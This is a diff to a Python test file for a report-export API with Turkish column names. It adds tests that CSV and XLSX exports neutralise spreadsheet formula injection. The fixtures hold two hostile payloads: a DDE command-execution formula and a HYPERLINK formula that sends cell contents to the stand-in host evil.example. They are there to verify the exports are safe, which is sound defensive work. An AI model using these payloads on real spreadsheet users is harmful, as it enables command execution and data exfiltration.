@@ -64,7 +64,8 @@ def test_csv_holds_exactly_the_filtered_rows_with_turkish_headers_context_and_co
     assert context["# Üretici sürümü"] == constants.EXPORT_GENERATOR_VERSION
     assert context["# Satır sayısı"] == "4"
     data = [row for row in lines if not row[0].startswith("#")]
-    assert data[0][:4] == ["İş kimliği", "ERP kimliği", "Firma", "Model tipi"]
+    assert data[0][:4] == ["İş kimliği", "ERP kimliği", "Firma", "Firma kodu"]
+    assert data[0][7:9] == ["Durum", "Durum kodu"]
     expected = {str(j.public_id) for j in jobs if j.machine.code == "M02" and j.status in ("failed", "succeeded")}
     assert {row[0] for row in data[1:]} == expected
     assert body["row_count"] == 4
@@ -101,9 +102,9 @@ def test_xlsx_opens_with_typed_cells_and_an_info_sheet(analyst_api, jobs, client
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][-1] == "Süre (ms)"
     assert len(rows) == 3
-    duration_cell = sheet.cell(row=2, column=12)
+    duration_cell = sheet.cell(row=2, column=14)
     assert isinstance(duration_cell.value, int) and duration_cell.number_format == "#,##0"
-    created = sheet.cell(row=2, column=9)
+    created = sheet.cell(row=2, column=11)
     assert created.is_date and created.number_format == "dd.mm.yyyy hh:mm:ss"
     facts = {row[0]: row[1] for row in info.iter_rows(values_only=True)}
     assert facts["Satır sayısı"] == 2 and facts["Saat dilimi"] == "Europe/Istanbul"
@@ -190,3 +191,107 @@ def test_filters_that_are_not_an_object_are_a_422_not_a_crash(analyst_api):
     response = analyst_api.post("/reports/export", {"format": "csv", "filters": [None, None]}, format="json")
     assert response.status_code == 422
     assert "filters" in response.json()["errors"]
+
+
+# ------------------------------------------------------------------ spreadsheets for people, safe to open
+
+EVIL_ERP_ID = "=cmd|' /C calc'!A0"
+EVIL_MODEL_CODE = '=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")'
+
+
+@pytest.fixture
+def evil_job(tenant_a, catalog):
+    """A job whose operator-controlled texts (ERP id, model type code) are spreadsheet formulas."""
+    from tests import factories
+
+    evil_type = factories.ModelTypeFactory(tenant=tenant_a, code=EVIL_MODEL_CODE, name="Kötü")
+    catalog["evil"] = evil_type
+    return make_job(tenant_a, catalog, 7, 9, JobStatus.FAILED, "p1", "evil", 1500, external_id=EVIL_ERP_ID)
+
+
+def _csv_rows(raw: bytes, encoding="utf-8", delimiter=","):
+    lines = list(csv.reader(io.StringIO(raw.decode(encoding)), delimiter=delimiter))
+    return [row for row in lines if not row[0].startswith("#")]
+
+
+@pytest.mark.parametrize(("fmt", "encoding", "delimiter"), [("csv", "utf-8", ","), ("csv_excel", "utf-8-sig", ";")])
+def test_csv_cells_that_would_run_as_formulas_are_quoted(analyst_api, evil_job, client, fmt, encoding, delimiter):
+    body = finished(analyst_api, start(analyst_api, fmt, {"model_type": EVIL_MODEL_CODE})["id"])
+    raw = download(client, body["download_url"])
+    header, row = _csv_rows(raw, encoding, delimiter)
+    assert row[header.index("ERP kimliği")] == "'" + EVIL_ERP_ID
+    assert row[header.index("Model tipi")] == "'" + EVIL_MODEL_CODE
+    # Not one cell of the file (context lines included) starts a formula.
+    for line in csv.reader(io.StringIO(raw.decode(encoding)), delimiter=delimiter):
+        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in line), line
+
+
+def test_xlsx_cells_are_text_never_formulas(analyst_api, evil_job, client, tmp_path):
+    import zipfile
+
+    body = finished(analyst_api, start(analyst_api, "xlsx", {"model_type": EVIL_MODEL_CODE})["id"])
+    path = tmp_path / "r.xlsx"
+    path.write_bytes(download(client, body["download_url"]))
+    with zipfile.ZipFile(path) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)
+    sheet = openpyxl.load_workbook(path)["İşler"]
+    header = [c.value for c in sheet[1]]
+    erp_cell = sheet.cell(row=2, column=header.index("ERP kimliği") + 1)
+    model_cell = sheet.cell(row=2, column=header.index("Model tipi") + 1)
+    # The exact text, typed as text, with Excel's quote prefix so editing the cell keeps it text.
+    assert (erp_cell.value, erp_cell.data_type, erp_cell.quotePrefix) == (EVIL_ERP_ID, "s", True)
+    assert (model_cell.value, model_cell.data_type, model_cell.quotePrefix) == (EVIL_MODEL_CODE, "s", True)
+    info = openpyxl.load_workbook(path)["Dışa aktarım bilgisi"]
+    filters = {row[0]: row[1] for row in info.iter_rows(values_only=True)}["Filtreler"]
+    assert json.loads(filters) == {"model_type": EVIL_MODEL_CODE}
+
+
+def test_spreadsheets_show_turkish_status_labels_and_tenant_names_beside_the_codes(analyst_api, jobs, client, tmp_path):
+    csv_body = finished(analyst_api, start(analyst_api, "csv", {"status": "failed,queued"})["id"])
+    header, *rows = _csv_rows(download(client, csv_body["download_url"]))
+    statuses = {(r[header.index("Durum")], r[header.index("Durum kodu")]) for r in rows}
+    assert statuses == {("Başarısız", "failed"), ("Sırada", "queued")}
+    assert {(r[header.index("Firma")], r[header.index("Firma kodu")]) for r in rows} == {("Anadolu Döküm", "anadolu")}
+    assert {r[header.index("Süre (ms)")] for r in rows} == {"7000", "9000", ""}
+
+    xlsx_body = finished(analyst_api, start(analyst_api, "xlsx", {"status": "failed"})["id"])
+    path = tmp_path / "r.xlsx"
+    path.write_bytes(download(client, xlsx_body["download_url"]))
+    sheet_rows = list(openpyxl.load_workbook(path)["İşler"].iter_rows(values_only=True))
+    xlsx_header = list(sheet_rows[0])
+    assert {r[xlsx_header.index("Durum")] for r in sheet_rows[1:]} == {"Başarısız"}
+    assert {r[xlsx_header.index("Firma")] for r in sheet_rows[1:]} == {"Anadolu Döküm"}
+
+    # JSON is for programs: codes only, as its schema says.
+    json_body = finished(analyst_api, start(analyst_api, "json", {"status": "failed"})["id"])
+    document = json.loads(download(client, json_body["download_url"]))
+    assert {(r["status"], r["tenant"]) for r in document["rows"]} == {("failed", "anadolu")}
+
+
+def test_the_excel_dialect_has_a_bom_semicolons_and_day_first_istanbul_times(analyst_api, jobs, client):
+    body = finished(analyst_api, start(analyst_api, "csv_excel", {"status": "failed"})["id"])
+    raw = download(client, body["download_url"])
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert body["download_url"] and body["format"] == "csv_excel"
+    header, *rows = _csv_rows(raw, "utf-8-sig", ";")
+    assert header[0] == "İş kimliği" and len(header) == len(constants.SPREADSHEET_COLUMNS)
+    created = sorted(r[header.index("Oluşturulma zamanı")] for r in rows)
+    # Job table: failed jobs created on 3 Nov 11:00 and 4 Nov 13:00, Istanbul wall clock.
+    assert created == ["03.11.2026 11:00:00", "04.11.2026 13:00:00"]
+    plain = finished(analyst_api, start(analyst_api, "csv", {"status": "failed"})["id"])
+    plain_raw = download(client, plain["download_url"])
+    assert not plain_raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in plain_raw
+    plain_header, *plain_rows = _csv_rows(plain_raw)
+    assert sorted(r[plain_header.index("Oluşturulma zamanı")] for r in plain_rows) == [
+        "2026-11-03T11:00:00+03:00",
+        "2026-11-04T13:00:00+03:00",
+    ]
+
+
+def test_the_excel_dialect_downloads_as_a_csv_file(analyst_api, jobs, client):
+    body = finished(analyst_api, start(analyst_api, "csv_excel")["id"])
+    response = client.get(body["download_url"])
+    assert response["Content-Type"].startswith("text/csv")
+    assert 'filename="tezgah-rapor-' in response["Content-Disposition"]
+    assert response["Content-Disposition"].rstrip('"').endswith(".csv")
